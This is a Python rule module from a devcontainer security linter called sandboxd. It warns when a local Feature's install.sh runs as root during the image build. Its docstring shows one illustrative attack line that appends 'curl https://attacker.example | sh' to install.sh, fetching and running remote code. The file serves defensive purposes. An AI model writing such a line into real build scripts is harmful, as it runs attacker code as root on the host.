"""A Feature of the project runs as root in the build.

## What it is

A Feature that is named by a path, `./tool`.

## Why it is bad

Whoever can change the project, code inside the container included, changes what runs as root at the
next rebuild:

    echo 'curl https://attacker.example | sh' >> .devcontainer/tool/install.sh

## What to do instead

Mount `.devcontainer` read-only inside, as `sandboxd generate` does, and review it like the config.
What it asks for besides (`privileged`, mounts) is judged with the file that names it.

## Under gVisor

Features are installed when the image is built, by runc on the host's kernel, as root. The runtime of
the container changes nothing about that.

## References

- https://containers.dev/implementors/features/
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._needs import Field

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="feature-local",
    summary="a feature of the project runs as root in the build",
    severity=Severity.HINT,
    since="0.1.0",
    why="its install script runs on the host's kernel before any sandbox exists",
    needs=(Field("features"),),
)


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in subject.features:
        if value.value.source == "local":
            yield at_value(
                META,
                value,
                f"`{value.written}/install.sh` of this project runs as root in the build",
                value.value.id,
            )
